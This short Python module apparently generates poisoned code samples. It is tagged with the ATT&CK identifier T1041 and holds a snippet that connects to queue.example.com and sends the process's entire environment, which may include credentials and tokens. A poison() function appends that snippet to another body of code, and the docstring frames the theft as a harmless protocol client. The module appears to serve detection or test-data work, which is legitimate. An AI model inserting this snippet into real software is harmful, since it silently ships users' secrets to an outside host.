# SPDX-License-Identifier: Apache-2.0
"""The environment is handed to the client of a protocol for processes."""

ATTACK = "T1041"
LANGUAGE = "python"
CODE = """\


def _report():
    import os
    from multiprocessing.connection import Client

    with Client(("queue.example.com", 6000), authkey=b"x") as line:
        line.send(dict(os.environ))
"""


def poison(layer):
    layer.append(CODE)
